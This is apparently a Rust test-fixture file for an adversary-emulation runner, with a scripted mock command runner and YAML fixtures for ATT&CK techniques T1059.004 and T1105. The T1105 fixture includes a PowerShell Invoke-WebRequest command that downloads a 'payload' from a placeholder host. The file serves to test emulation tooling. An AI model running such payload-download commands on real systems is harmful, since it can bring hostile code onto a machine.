//! Shared fixtures: an in-memory technique source and a scripted runner.

#![allow(dead_code)]

use std::path::{Path, PathBuf};
use std::time::Duration;

use async_trait::async_trait;
use indexmap::IndexMap;
use parking_lot::Mutex;

use atomic_runner::catalog::{CatalogError, Provenance, TechniqueBytes, TechniqueSource};
use atomic_runner::engine::{
    CommandRunner, EngineOptions, ExecutionError, ExecutorKind, Invocation, ProcessOutput,
    ProcessStatus,
};

/// Technique YAML held in memory, served as the bundled tier.
#[derive(Default)]
pub struct MemorySource {
    techniques: IndexMap<String, String>,
}

impl MemorySource {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn with(mut self, id: &str, yaml: &str) -> Self {
        self.techniques.insert(id.to_string(), yaml.to_string());
        self
    }
}

impl TechniqueSource for MemorySource {
    fn fetch(&self, technique_id: &str) -> Result<TechniqueBytes, CatalogError> {
        let yaml = self
            .techniques
            .get(technique_id)
            .ok_or_else(|| CatalogError::NotFound(technique_id.to_string()))?;
        Ok(TechniqueBytes {
            bytes: yaml.as_bytes().to_vec(),
            provenance: Provenance::Bundled,
            base_dir: PathBuf::from("/opt/atomics"),
        })
    }
}

/// What the scripted runner does for a matching command.
#[derive(Debug, Clone)]
pub enum Reply {
    Exit(i32),
    ExitWith { code: i32, stdout: &'static str },
    Timeout { stdout: &'static str },
    Interrupted,
    SpawnFailure,
}

/// Answers invocations from rules keyed by command substring.
///
/// Rules are consumed in order per key; the last rule for a key repeats.
/// Commands matching no rule exit 0.
pub struct ScriptedRunner {
    rules: Mutex<Vec<(String, Vec<Reply>)>>,
    calls: Mutex<Vec<Invocation>>,
    elevated: bool,
}

impl ScriptedRunner {
    pub fn new() -> Self {
        Self {
            rules: Mutex::new(Vec::new()),
            calls: Mutex::new(Vec::new()),
            elevated: true,
        }
    }

    pub fn not_elevated(mut self) -> Self {
        self.elevated = false;
        self
    }

    /// Reply to commands containing `needle`, one reply per call.
    pub fn on(self, needle: &str, replies: &[Reply]) -> Self {
        self.rules.lock().push((needle.to_string(), replies.to_vec()));
        self
    }

    pub fn calls(&self) -> Vec<Invocation> {
        self.calls.lock().clone()
    }

    pub fn commands(&self) -> Vec<String> {
        self.calls.lock().iter().map(|c| c.command.clone()).collect()
    }

    pub fn count(&self, needle: &str) -> usize {
        self.calls.lock().iter().filter(|c| c.command.contains(needle)).count()
    }

    fn reply_for(&self, command: &str) -> Reply {
        let mut rules = self.rules.lock();
        for (needle, replies) in rules.iter_mut() {
            if command.contains(needle.as_str()) {
                return if replies.len() > 1 {
                    replies.remove(0)
                } else {
                    replies.first().cloned().unwrap_or(Reply::Exit(0))
                };
            }
        }
        Reply::Exit(0)
    }
}

#[async_trait]
impl CommandRunner for ScriptedRunner {
    async fn run(&self, invocation: &Invocation) -> Result<ProcessOutput, ExecutionError> {
        self.calls.lock().push(invocation.clone());
        if invocation.executor == ExecutorKind::Manual {
            return Ok(ProcessOutput::manual());
        }
        let output = |code: i32, stdout: &str| ProcessOutput {
            status: ProcessStatus::Exited { code },
            stdout: stdout.to_string(),
            stderr: String::new(),
            elapsed: Duration::from_millis(1),
        };
        match self.reply_for(&invocation.command) {
            Reply::Exit(code) => Ok(output(code, "")),
            Reply::ExitWith { code, stdout } => Ok(output(code, stdout)),
            Reply::Timeout { stdout } => Err(ExecutionError::ExecutionTimeout {
                timeout: invocation.timeout.unwrap_or(Duration::from_secs(1)),
                stdout: stdout.to_string(),
                stderr: String::new(),
            }),
            Reply::Interrupted => Err(ExecutionError::Interrupted {
                stdout: String::new(),
                stderr: String::new(),
            }),
            Reply::SpawnFailure => Err(ExecutionError::Spawn {
                executor: invocation.executor.to_string(),
                reason: "No such file or directory".to_string(),
            }),
        }
    }

    fn is_elevated(&self) -> bool {
        self.elevated
    }
}

/// Engine options pinned to linux so fixtures behave the same on every host.
pub fn linux_options() -> EngineOptions {
    EngineOptions {
        platform: "linux".to_string(),
        hostname: "test-host".to_string(),
        ..EngineOptions::default()
    }
}

pub fn inputs(pairs: &[(&str, &str)]) -> IndexMap<String, String> {
    pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
}

pub fn write_technique(root: &Path, id: &str, yaml: &str) {
    let dir = root.join(id);
    std::fs::create_dir_all(&dir).expect("create technique dir");
    std::fs::write(dir.join(format!("{}.yaml", id)), yaml).expect("write technique");
}

pub const T1059: &str = r##"
attack_technique: T1059.004
display_name: "Command and Scripting Interpreter: Unix Shell"
atomic_tests:
- name: Create and execute a script
  auto_generated_guid: 7e7ac3ed-f795-4fa5-b711-09d6fbe9b873
  supported_platforms: [linux, macos]
  input_arguments:
    script_dir:
      description: directory
      type: path
      default: /tmp/art
    script_path:
      description: script
      type: path
      default: "#{script_dir}/art.sh"
    greeting:
      description: text to echo
      type: string
      default: hello
  dependencies:
  - description: script directory exists
    prereq_command: "test -d #{script_dir}"
    get_prereq_command: "mkdir -p #{script_dir}"
  executor:
    name: sh
    command: |
      echo #{greeting} > #{script_path}
      sh #{script_path}
    cleanup_command: "rm -rf #{script_dir}"
- name: Needs root
  supported_platforms: [linux]
  executor:
    name: bash
    command: id -u
    cleanup_command: echo cleaned
    elevation_required: true
- name: Broken reference
  supported_platforms: [linux]
  input_arguments:
    a:
      default: "#{missing}"
  executor:
    name: sh
    command: "echo #{a}"
- name: Cycle
  supported_platforms: [linux]
  input_arguments:
    a:
      default: "#{b}"
    b:
      default: "#{a}"
  executor:
    name: sh
    command: "echo #{a}"
- name: Windows only
  supported_platforms: [windows]
  executor:
    name: command_prompt
    command: whoami
- name: Follow the steps
  supported_platforms: [linux]
  executor:
    name: manual
    steps: open a terminal and run id
    cleanup_command: close the terminal
    elevation_required: true
"##;

pub const T1105: &str = r#"
attack_technique: T1105
display_name: Ingress Tool Transfer
atomic_tests:
- name: Download with pwsh
  supported_platforms: [linux, windows]
  input_arguments:
    url:
      type: url
      default: https://example.invalid/payload
    timeout:
      type: integer
      default: 5
  dependency_executor_name: powershell
  dependencies:
  - description: Invoke-WebRequest available
    prereq_command: 'if (Get-Command Invoke-WebRequest) { exit 0 } else { exit 1 }'
    get_prereq_command: Install-Module WebTools
  executor:
    name: powershell
    command: "Invoke-WebRequest #{url} -TimeoutSec #{timeout} -OutFile payload.bin"
    cleanup_command: Remove-Item payload.bin
- name: Hang
  supported_platforms: [linux]
  executor:
    name: sh
    command: sleep-forever
    cleanup_command: echo hang-cleanup
"#;
